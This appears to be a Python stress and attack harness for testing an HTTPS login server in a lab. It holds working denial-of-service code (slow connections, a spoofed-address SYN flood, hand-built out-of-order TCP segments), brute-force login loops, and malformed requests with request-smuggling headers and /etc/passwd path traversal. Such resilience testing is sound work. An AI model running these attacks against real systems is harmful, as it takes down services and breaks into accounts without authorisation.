#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""A client of the HTTPS server from an address of its own: webpeer.py WHAT FROM TO [WORDS]. WHAT: enrol CODE | login | one of the attacks."""
import http.client
import json
import os
import random
import socket
import ssl
import struct
import sys
import threading
import time

USER, PASSWORD = 'root', 'correct horse battery'


def context():
    c = ssl.create_default_context()
    c.check_hostname = False
    c.verify_mode = ssl.CERT_NONE
    return c


def plain(source, target, timeout=20):
    return socket.create_connection((target, 443), timeout, (source, 0))


def tls(source, target, timeout=20):
    return context().wrap_socket(plain(source, target, timeout))


def ask(source, target, method, path, body=None, headers=None, timeout=30):
    c = http.client.HTTPSConnection(target, timeout=timeout, context=context(), source_address=(source, 0))
    try:
        c.request(method, path, body, {'Content-Type': 'application/json'} | (headers or {}))
        r = c.getresponse()
        return r.status, r.read(), r.getheader('Set-Cookie')
    finally:
        c.close()


def enrol(source, target, code):
    status, text, _ = ask(source, target, 'POST', '/v1/enrol', json.dumps({'code': code, 'user': USER, 'password': PASSWORD}))
    print(status, text.decode())


def again(*words, until, want=200, **more):
    """Ask as a person does: once more when the connection is reset, or when it is too early."""
    while True:
        try:
            said = ask(*words, **more)
        except OSError as e:
            said = 0, repr(e).encode(), None
        if said[0] == want or time.time() > until:
            return said
        time.sleep(0.2)


def login(source, target):
    """Prints how long it took, with each try, and what /v1/guests said then."""
    start = time.time()
    until = start + 100
    status, text, cookie = again(source, target, 'POST', '/v1/login', json.dumps({'user': USER, 'password': PASSWORD}), until=until)
    took = time.time() - start
    if status == 200:
        cookie = {'Cookie': cookie.split(';')[0]}
        text = again(source, target, 'GET', '/v1/guests', headers=cookie, until=until)[1]
        csrf = json.loads(again(source, target, 'GET', '/v1/session', headers=cookie, until=until)[1])['csrf']
        again(source, target, 'POST', '/v1/logout', headers=cookie | {'X-CSRF-Token': csrf}, until=until, want=204)
    print(json.dumps({'status': status, 'seconds': took, 'text': text.decode()}))


def for_ever(what, threads):
    def loop(i):
        while True:
            try:
                what(i)
            except (OSError, http.client.HTTPException):
                time.sleep(0.05)
    for i in range(threads):
        threading.Thread(target=loop, args=(i,), daemon=True).start()
    while True:
        time.sleep(1)


def slow(source, target):
    """Forty connections: a byte a second of TLS, of a head or of a body, or nothing at all."""
    def one(i):
        s = plain(source, target) if i % 4 < 2 else tls(source, target)
        text = (b'\x16\x03\x01\x02\0\1\0\1\xfc\3\3' + bytes(500) if i % 4 == 0 else b'' if i % 4 == 1 else
                b'GET / HTTP/1.1\r\nHost: a\r\n' + b'X-Y: z\r\n' * 500 if i % 4 == 2 else
                b'POST /v1/login HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\nContent-Length: 5000\r\n\r\n{')
        with s:
            for b in text:
                s.send(bytes([b]))
                time.sleep(1)
            time.sleep(30)
    for_ever(one, 40)


def brute(source, target):
    """Passwords for a name that is there and for some that are not, four at a time."""
    def one(i):
        ask(source, target, 'POST', '/v1/login', json.dumps({'user': USER if i % 2 else f'user{random.randrange(50)}',
                                                             'password': f'wrong password {random.random()}'}))
        ask(source, target, 'POST', '/v1/enrol', json.dumps({'code': 'AAAA-AAAA-AAAA-AAAA', 'user': USER, 'password': PASSWORD}))
    for_ever(one, 4)


BAD = [b'{"user":' + b'[' * 4000, b'{"user":"' + b'a' * 8000 + b'"}', b'{"user":9007199254740993,"password":1e999}', b'{"user":"a","user":"b"}',
       b'{"\\u0000":1}', b'\xff\xfe', b'{"user":"\xc3\x28","password":""}', b'null', b'']


def requests(source, target):
    """Requests that are wrong: lengths, bodies that end early, deep and giant JSON, paths, tokens of others."""
    def one(i):
        head = b'%s %s HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\n' % random.choice(
            ((b'POST', b'/v1/login'), (b'POST', b'/v1/enrol'), (b'GET', b'/../../etc/passwd'), (b'GET', b'/v1/guests/%00'), (b'PUT', b'/v1/guests/x'),
             (b'DELETE', b'/v1/users/root'), (b'GET', b'/' + b'a' * 3000), (b'BREW', b'/')))
        body = random.choice(BAD)
        more = random.choice((b'Content-Length: %d\r\n' % len(body), b'Content-Length: -1\r\n', b'Content-Length: 99999999999999999999\r\n',
                              b'Content-Length: 5\r\nTransfer-Encoding: chunked\r\n', b'Transfer-Encoding: chunked\r\n', b'X: ' + b'y' * 20000 + b'\r\n',
                              b'Content-Length: %d\r\n' % (len(body) + 9),
                              b'Authorization: Bearer bhk_' + os.urandom(32).hex().encode() + b'\r\n',
                              b'Cookie: __Host-session=' + os.urandom(32).hex().encode() + b'\r\n'))
        with tls(source, target) as s:
            s.sendall(head + more + b'\r\n' + body)
            if i % 3:
                s.settimeout(3)
                answer = s.recv(4096)
                if answer[:1] and not answer.startswith((b'HTTP/1.1 4', b'HTTP/1.1 5')):
                    print('TAKEN', head, more, body[:100], answer[:200], flush=True)
    for_ever(one, 4)


def raw():
    return socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)


def segment(source, target, port, seq, ack, flags, payload=b''):
    """A TCP segment to port 443 in its IP packet, made by hand."""
    source, target = socket.inet_aton(source), socket.inet_aton(target)
    tcp = struct.pack('>HHIIBBHHH', port, 443, seq % 2**32, ack, 0x50, flags, 60000, 0, 0) + payload
    data = source + target + struct.pack('>BBH', 0, 6, len(tcp)) + tcp + bytes(len(tcp) % 2)
    total = sum(struct.unpack(f'>{len(data) // 2}H', data))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    tcp = tcp[:16] + struct.pack('>H', ~total & 0xffff) + tcp[18:]
    return struct.pack('>BBHHHBBH4s4s', 0x45, 0, 20 + len(tcp), 0, 0, 64, 6, 0, source, target) + tcp


def syn(source, target):
    """A thousand times a second the begin of a connection, from addresses that nobody has."""
    s = raw()
    while True:
        for _ in range(20):
            spoofed = f'10.99.0.{random.randrange(100, 250)}'
            s.sendto(segment(spoofed, target, random.randrange(1024, 65536), random.getrandbits(32), 0, 2), (target, 0))
        time.sleep(0.02)


TCP_REPAIR, TCP_REPAIR_QUEUE, TCP_QUEUE_SEQ, RECEIVE, SEND = 19, 20, 21, 1, 2       # linux/tcp.h


def numbers(s):
    """Of a connection of the build host's kernel: what it sends next, what it expects."""
    s.setsockopt(socket.IPPROTO_TCP, TCP_REPAIR, 1)
    found = []
    for queue in (SEND, RECEIVE):
        s.setsockopt(socket.IPPROTO_TCP, TCP_REPAIR_QUEUE, queue)
        found.append(struct.unpack('I', s.getsockopt(socket.IPPROTO_TCP, TCP_QUEUE_SEQ, 4))[0])
    s.setsockopt(socket.IPPROTO_TCP, TCP_REPAIR, 0)
    return found


def gaps(source, target):
    """Thirty connections that send all but the first byte: the server must hold the rest until that comes."""
    out = raw()

    def one(i):
        with plain(source, target) as s:
            port = s.getsockname()[1]
            for _ in range(40):
                seq, ack = numbers(s)
                for k in range(23):
                    out.sendto(segment(source, target, port, seq + 1 + 2 * k, ack, 16, b'x'), (target, 0))
                time.sleep(0.2)
    for_ever(one, 30)


if __name__ == '__main__':
    {f.__name__: f for f in (enrol, login, slow, brute, requests, syn, gaps)}[sys.argv[1]](*sys.argv[2:])
